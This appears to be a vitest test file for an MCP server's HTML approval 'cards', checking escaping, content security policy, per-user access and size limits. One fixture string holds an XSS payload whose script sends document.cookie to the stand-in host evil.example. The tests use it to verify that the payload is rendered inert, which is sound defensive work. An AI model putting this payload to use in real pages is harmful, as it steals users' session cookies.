import { expect, test } from 'vitest';
import { cardHtml } from '../../src/host/mcp/card/card-html.ts';
import type { McpServeOptions } from '../../src/host/mcp/index.ts';
import { defineTool } from '../../src/index.ts';
import { connect } from './clients.ts';
import { openShop } from './kit.ts';
import type { TaskCaller } from './task-client.ts';
import { ask } from './task-client.ts';

const ui = { extensions: { 'io.modelcontextprotocol/ui': { mimeTypes: ['text/html;profile=mcp-app'] } } };
const shows: TaskCaller = { capabilities: { elicitation: {}, ...ui } };
const blind: TaskCaller = { capabilities: { elicitation: {} } };
const hostile = `</pre><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror="alert(1)">\u202e`;

const post = defineTool({
  name: 'post',
  description: 'Posts words.',
  inputSchema: { type: 'object', properties: { words: { type: 'string' } }, required: ['words'] },
  preview: ({ words }) => [{ type: 'text', text: `posts ${words}` }],
  execute: () => 'posted',
});

const params = { name: 'puppet', arguments: { prompt: `call post ${JSON.stringify({ words: hostile })}` } };

interface Read {
  uri: string;
  mimeType: string;
  text: string;
  _meta: { ui: { csp: Record<string, string[]> } };
}

const cardOf = (asked: unknown): string | undefined => /ui:\/\/coxswain\/call\/[\w-]+/.exec(JSON.stringify(asked))?.[0];

test('MCC-01 a client of MCP Apps gets a card beside the question: preview and arguments whole, and nothing that answers', async () => {
  await using shop = await openShop({ host: { tools: [post] }, mcp: { cards: true } });
  const { result } = await ask(shop.url, 'tools/call', params, shows);
  const [request] = Object.values(result?.inputRequests ?? {});
  const uri = cardOf(request) ?? '';
  expect(request?.params).toMatchObject({ _meta: { ui: { resourceUri: uri } }, requestedSchema: { type: 'object' } });
  const read = await ask(shop.url, 'resources/read', { uri }, shows);
  const [card] = (read.result?.contents ?? []) as Read[];
  expect(card).toMatchObject({ uri, mimeType: 'text/html;profile=mcp-app' });
  expect(Object.values(card?._meta.ui.csp ?? { none: ['x'] })).toEqual([[], [], [], []]);
  const html = card?.text ?? '';
  expect(html.match(/posts/g)).toHaveLength(1);
  // Once in the preview, once among the arguments: as text both times.
  expect(html.match(/&lt;script&gt;fetch\(/g)).toHaveLength(2);
  expect(html).not.toContain('\u202e');
  for (const tag of ['script', 'style', 'main'])
    expect(html.match(new RegExp(`<${tag}[ >]`, 'g')), tag).toHaveLength(1);
  for (const tag of ['img', 'button', 'form', 'input', 'a', 'iframe', 'link'])
    expect(html).not.toMatch(new RegExp(`<${tag}[ >]`));
  expect(html).not.toMatch(/tools\/call|https?:\/\/(?!evil)/);
  expect(html).toMatch(
    /Content-Security-Policy" content="default-src 'none'; script-src 'sha256-[\w+/=]+'; style-src 'sha256-/,
  );
});

test('MCC-02 a client that shows none sees none; somebody else, a call that is over, and one that was made up have none', async () => {
  const authenticate = (request: Request) => ({ id: request.headers.get('authorization')?.slice(7) ?? '' });
  await using shop = await openShop({ host: { tools: [post] }, mcp: { cards: true, authenticate } });
  const anna = { ...shows, token: 'anna' };
  const dark = await ask(shop.url, 'tools/call', params, { ...blind, token: 'anna' });
  expect(dark.result?.resultType).toBe('input_required');
  expect(cardOf(dark)).toBeUndefined();
  const { result } = await ask(shop.url, 'tools/call', params, anna);
  const uri = cardOf(result) ?? '';
  const none = { code: -32_602 };
  const code = async (asked: string, caller: TaskCaller) =>
    (await ask(shop.url, 'resources/read', { uri: asked }, caller)).error;
  expect(await code(uri, { ...blind, token: 'anna' })).toMatchObject(none);
  expect(await code(uri, { ...shows, token: 'ben' })).toMatchObject(none);
  for (const made of [
    `${uri}x`,
    'ui://coxswain/call/',
    'ui://coxswain/call/W10',
    'ui://coxswain/other',
    'ui://else/',
  ]) {
    expect(await code(made, anna), made).toMatchObject(none);
  }
  expect((await ask(shop.url, 'resources/list', {}, anna)).result?.resources).toEqual([]);
  expect((await ask(shop.url, 'resources/templates/list', {}, anna)).result?.resourceTemplates).toEqual([]);
  const [key = ''] = Object.keys(result?.inputRequests ?? {});
  const inputResponses = { [key]: { action: 'decline' } };
  await ask(shop.url, 'tools/call', { ...params, requestState: result?.requestState, inputResponses }, anna);
  expect(await code(uri, anna)).toMatchObject(none);
});

test('MCC-03 resources of ones own stay, beside cards and without them', async () => {
  const configure: McpServeOptions['configure'] = (server) =>
    void server.registerResource('own', 'ui://own/page', { mimeType: 'text/plain' }, () => ({
      contents: [{ uri: 'ui://own/page', text: 'mine' }],
    }));
  for (const cards of [true, false]) {
    await using shop = await openShop({ mcp: { cards, configure } });
    const read = await ask(shop.url, 'resources/read', { uri: 'ui://own/page' }, shows);
    expect(read.result).toMatchObject({ contents: [{ text: 'mine' }] });
    const found = (await ask(shop.url, 'server/discover', {}, shows)).result?.capabilities;
    expect(found).toMatchObject({ resources: {} });
  }
  await using plain = await openShop();
  expect((await ask(plain.url, 'server/discover', {}, shows)).result?.capabilities).not.toHaveProperty('resources');
});

test.each(['v2-2025', 'v1'] as const)('MCC-04 %s: a client without cards is asked as before', async (kind) => {
  await using shop = await openShop({ mcp: { cards: true } });
  const asked: unknown[] = [];
  const onElicit = (question: unknown) => {
    asked.push(question);
    return { action: 'accept', content: { decision: 'allow' } } as const;
  };
  await using client = await connect(kind, shop, { onElicit });
  await client.call('puppet', { prompt: 'call pay {"amount": 5}' });
  expect(shop.runs).toEqual([5]);
  expect(asked).toHaveLength(1);
  expect(cardOf(asked)).toBeUndefined();
});

test('MCC-05 what is too large for a card is not shown in part', () => {
  const request = { requestId: 'r', name: 'post', agentPath: ['puppet'], args: { words: 'w'.repeat(1_000_001) } };
  const html = cardHtml(request as unknown as Parameters<typeof cardHtml>[0]);
  expect(html.length).toBeLessThan(10_000);
  expect(html).toContain('too large for a card');
  expect(html).not.toContain('wwww');
});
